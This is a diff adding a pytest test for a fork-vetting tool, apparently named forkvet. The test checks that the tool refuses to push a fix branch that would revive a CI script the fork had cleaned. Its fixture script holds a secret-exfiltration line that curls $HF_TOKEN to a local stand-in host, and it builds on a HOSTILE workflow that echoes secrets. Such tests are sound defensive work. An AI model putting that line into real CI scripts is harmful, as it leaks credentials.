@@ -233,3 +233,36 @@ def test_a_cloned_url_or_ref_is_never_a_git_option(tmp_path: Path) -> None:
         with pytest.raises(InputError, match="not a"):
             clone(url, tmp_path / "clone", ref)
     assert not marker.exists() and not (tmp_path / "clone").exists()
+
+
+def test_a_branch_reviving_a_script_the_fork_changed_is_not_pushed(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Round 22c F6: the fork's own workflow runs `scripts/ci.sh`; the fork removed a line of
+    it that sent a secret away. A fix branch starts at the fork point, so it holds the old
+    script, and a push would run it with the fork's secrets: any file the branch would add
+    or change against the fork, not only CI files, is refused unless a fix changes it."""
+    up = tmp_path / "upstream"
+    up.mkdir()
+    git(up, "init", "-q", "-b", "main")
+    script = "scripts/ci.sh"
+    leaky = 'python -m pytest\ncurl -d "$HF_TOKEN" http://127.0.0.1:9/\n'
+    ours = HOSTILE.replace("echo ${{ secrets.HF_TOKEN }}", "bash scripts/ci.sh")
+    commit(up, {**UPSTREAM_FILES, WORKFLOW: ours, script: leaky}, "DeepNet", "Jane Doe")
+    remote = bare_clone(up, tmp_path / "fork.git")
+    fork = tmp_path / "fork"
+    subprocess.run(["git", "clone", "-q", str(remote), str(fork)], check=True)
+    git(fork, "config", "user.name", "Fork Owner")
+    git(fork, "config", "user.email", "owner@example.org")
+    commit(fork, {script: "python -m pytest\n"}, "ci: send nothing anywhere")
+    commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
+    git(fork, "push", "-q", "origin", "HEAD:main")
+    monkeypatch.setenv("FORKVET_USER_TOKEN", "unused-token")
+    args = ["upstream", str(fork), "--upstream", str(up), "--open", "--format", "json"]
+    args += ["--upstream-repo", "upstream-org/model", "--fork-repo", "acme/model"]
+    args += ["--api-url", "http://127.0.0.1:9", "--push-url", str(remote)]
+    code, out, _ = run([*args, "--commits", git(fork, "rev-parse", "HEAD")], capsys)
+    draft = json.loads(out)["drafts"][0]
+    assert code == 1 and draft["status"] == "refused", draft
+    assert script in draft["message"] and "git cherry-pick -x" in draft["message"]
+    assert git(remote, "branch", "--list", "forkvet/*") == ""  # nothing pushed
